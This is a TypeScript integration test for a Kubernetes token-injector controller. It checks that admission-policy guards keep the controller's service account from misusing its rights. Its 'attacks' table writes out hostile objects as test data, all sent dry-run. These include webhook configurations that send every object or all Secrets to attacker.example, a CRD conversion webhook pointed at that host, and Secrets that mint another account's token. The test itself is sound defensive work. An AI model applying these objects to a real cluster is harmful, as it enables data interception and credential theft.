import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { parsePolicy } from '../../../src/core/policy/parse-policy.ts';
import { policySet } from '../../../src/core/policy/policy-set.ts';
import { tokenPolicyDefinition } from '../../../src/core/registration/custom-resource-definition.ts';
import { mutatingWebhookConfiguration } from '../../../src/core/registration/mutating-webhook.ts';
import { probeEntry } from '../../../src/core/registration/probe.ts';
import { type Api, type KubeObject, accepted } from '../api.ts';
import { eventually } from '../eventually.ts';
import { createNamespace, deleteNamespace } from '../namespaces.ts';
import { examplePolicy } from '../registration.ts';
import { rightsInForce } from '../rights-in-force.ts';
import { describeCluster } from '../suite.ts';
import { objectsIn, renderChart } from './render.ts';

// Not the name of a real installation, which the cluster may have as well.
const name = 'token-injector-guarded';
const values = `
fullnameOverride: ${name}
enforcement: {missingToken: {policies: [aikido]}}`;
const groups = ['system:serviceaccounts', 'system:authenticated'];
const dryRun = { query: { dryRun: 'All' } };

describeCluster('the guard of the controller', ({ api, kubectl }) => {
  let namespace: string;
  let manifests: string;
  let guards: KubeObject[];
  let controller: Api;
  beforeAll(async () => {
    namespace = await createNamespace(api, 'guard');
    const objects = objectsIn(await renderChart(values, namespace));
    const account = objects.filter(({ kind }) =>
      /^(ServiceAccount|(Cluster)?Role(Binding)?)$/.test(kind),
    );
    guards = objects.filter(({ kind }) => kind.startsWith('ValidatingAdmissionPolicy'));
    manifests = [...account, ...guards].map((object) => stringify(object)).join('---\n');
    for (const object of account) await accepted(api.apply(object));
    await rightsInForce(api, account);
    const user = `system:serviceaccount:${namespace}:${name}-controller`;
    controller = api.as(user, [...groups, `system:serviceaccounts:${namespace}`]);
  });
  afterAll(async () => {
    await kubectl(['delete', '--ignore-not-found', '-f', '-'], { input: manifests });
    await deleteNamespace(api, namespace);
  });

  const registration = () => ({
    address: { service: { namespace, name: `${name}-webhook` } },
    ownNamespace: namespace,
    timeoutSeconds: 1,
  });
  const configuration = (webhooks: readonly object[]) => ({
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind: 'MutatingWebhookConfiguration',
    metadata: { name: 'token-injector' },
    webhooks,
  });
  const ours = () => {
    const parsed = parsePolicy(examplePolicy);
    if (!parsed.ok) throw new Error('the example does not parse');
    return mutatingWebhookConfiguration(policySet([parsed.policy]), registration()).webhooks[0]!;
  };
  const everything = [
    { operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] },
  ];
  const definition: KubeObject & { readonly spec: object } = tokenPolicyDefinition();
  const inNamespace = (object: { apiVersion: string; kind: string; name: string } & object) => {
    const { name: called, ...rest } = object;
    return { ...rest, metadata: { name: called, namespace } };
  };

  /** What whoever has the account's token would do with its rights; by apply, or else by create. */
  const attacks: Readonly<Record<string, () => { apply?: KubeObject; create?: KubeObject }>> = {
    'read and change every object, at an address of his own': () => ({
      apply: configuration([
        { ...ours(), clientConfig: { url: 'https://attacker.example/' }, rules: everything },
      ]),
    }),
    'have pods sent to an address of his own': () => ({
      apply: configuration([{ ...ours(), clientConfig: { url: 'https://attacker.example/' } }]),
    }),
    'have pods sent to another Service': () => ({
      apply: configuration([
        { ...ours(), clientConfig: { service: { namespace, name: 'attacker' } } },
      ]),
    }),
    'have pods sent to the Service of another namespace': () => ({
      apply: configuration([
        { ...ours(), clientConfig: { service: { namespace: 'x', name: `${name}-webhook` } } },
      ]),
    }),
    'have Secrets sent': () => ({
      apply: configuration([
        { ...ours(), rules: [{ ...ours().rules[0], resources: ['secrets'] }] },
      ]),
    }),
    'have role bindings sent beside pods': () => ({
      apply: configuration([
        {
          ...ours(),
          rules: [
            ...ours().rules,
            {
              operations: ['CREATE'],
              apiGroups: ['rbac.authorization.k8s.io'],
              apiVersions: ['v1'],
              resources: ['clusterrolebindings'],
            },
          ],
        },
      ]),
    }),
    'have every change of a pod sent': () => ({
      apply: configuration([{ ...ours(), rules: [{ ...ours().rules[0], operations: ['*'] }] }]),
    }),
    'stop the creation of pods': () => ({
      apply: configuration([{ ...ours(), failurePolicy: 'Fail' }]),
    }),
    'have the ConfigMaps of another namespace sent as if for the probe': () => ({
      apply: configuration([probeEntry({ ...registration(), ownNamespace: 'kube-system' })]),
    }),
    'have ConfigMaps without the label of the probe sent': () => ({
      apply: configuration([{ ...probeEntry(registration()), objectSelector: {} }]),
    }),
    'have pods sent as if for the probe, which fails closed': () => ({
      apply: configuration([{ ...probeEntry(registration()), rules: ours().rules }]),
    }),
    'hide it behind an entry of ours': () => ({
      apply: configuration([
        ours(),
        probeEntry(registration()),
        { ...ours(), name: 'x.token-injector.dev', rules: everything },
      ]),
    }),
    'have policies converted by a webhook': () => ({
      apply: {
        ...definition,
        spec: {
          ...definition.spec,
          conversion: {
            strategy: 'Webhook',
            webhook: {
              clientConfig: { url: 'https://attacker.example/' },
              conversionReviewVersions: ['v1'],
            },
          },
        },
      },
    }),
    'get the token of another account of the namespace': () => ({
      create: {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: {
          name: 'x',
          namespace,
          annotations: { 'kubernetes.io/service-account.name': 'default' },
        },
        type: 'kubernetes.io/service-account-token',
      },
    }),
    'get it under the name of a Secret of ours': () => ({
      create: {
        apiVersion: 'v1',
        kind: 'Secret',
        metadata: {
          name: `${name}-tls`,
          namespace,
          annotations: { 'kubernetes.io/service-account.name': 'default' },
        },
        type: 'kubernetes.io/service-account-token',
      },
    }),
    'make a Secret that something else reads': () => ({
      create: inNamespace({ apiVersion: 'v1', kind: 'Secret', name: 'x' }),
    }),
    'keep another program from leading': () => ({
      create: inNamespace({ apiVersion: 'coordination.k8s.io/v1', kind: 'Lease', name: 'x' }),
    }),
  };
  const attempt = (attack: string) => {
    const { apply, create } = attacks[attack]!();
    return apply
      ? controller.apply(apply, { ...dryRun, force: true })
      : controller.create(create!, dryRun);
  };
  const each = Object.keys(attacks);
  const makeConfigMap = (options: typeof dryRun | undefined) =>
    controller.create(inNamespace({ apiVersion: 'v1', kind: 'ConfigMap', name: 'probe' }), options);

  describe('without it, the rights of the account', () => {
    it.each(each)('let it %s', async (attack) => {
      await accepted(attempt(attack) as Promise<never>);
    });
  });

  describe('keeps the account from what its rights allow:', () => {
    beforeAll(async () => {
      for (const object of guards) await accepted(api.apply(object));
      // Each of them comes into force by itself.
      await eventually('the guard to be in force', async () => {
        const answers = await Promise.all(
          ['have Secrets sent', 'have policies converted by a webhook', ...each.slice(-2)].map(
            attempt,
          ),
        );
        expect(answers.map(({ ok }) => ok)).not.toContain(true);
        expect(await makeConfigMap(undefined)).toMatchObject({ ok: false });
      });
    });

    it.each(each)('to %s', async (attack) => {
      const { ok, body } = await attempt(attack);
      expect({ ok, body }).toMatchObject({
        ok: false,
        body: { message: expect.stringMatching(/'token-injector-guarded\.guard\.\w+' denied/) },
      });
    });

    it('to create ConfigMaps that stay', async () => {
      expect(await makeConfigMap(undefined)).toMatchObject({ ok: false });
      await accepted(makeConfigMap(dryRun));
    });
  });

  it('leaves the account what it does', async () => {
    const registered = configuration([ours(), probeEntry(registration())]);
    await accepted(controller.apply(registered, { ...dryRun, force: true }));
    await accepted(controller.apply(configuration([]), { ...dryRun, force: true }));
    await accepted(controller.apply(definition, { ...dryRun, force: true }));
    const secret = { apiVersion: 'v1', kind: 'Secret' };
    await accepted(controller.create(inNamespace({ ...secret, name: `${name}-ca` }), dryRun));
    const lease = { apiVersion: 'coordination.k8s.io/v1', kind: 'Lease' };
    const ownLease = inNamespace({ ...lease, name: `${name}-controller` });
    await accepted(controller.create(ownLease, dryRun));
  });

  it('can afford as many entries as fit', async () => {
    const entries = Array.from({ length: 300 }, (_, index) => ({
      ...ours(),
      name: `p${index}.token-injector.dev`,
    }));
    await accepted(controller.apply(configuration(entries), { ...dryRun, force: true }));
  });

  it('is out of reach of the account, also where it may have pods refused', async () => {
    const refusal = { ...guards[0]!, metadata: { name: 'token-injector-aikido' } };
    await accepted(controller.apply(refusal, { ...dryRun, force: true }));
    for (const guard of guards) {
      const removal = await controller.delete(guard, dryRun);
      expect(`${guard.kind}: ${removal.status}`).toBe(`${guard.kind}: 403`);
      const change = await controller.patch(guard, { metadata: { labels: { a: 'b' } } }, dryRun);
      expect(`${guard.kind}: ${change.status}`).toBe(`${guard.kind}: 403`);
    }
  });

  it('concerns nobody else', async () => {
    const { apply } = attacks['have Secrets sent']!();
    await accepted(api.apply(apply!, { ...dryRun, force: true }));
  });
});
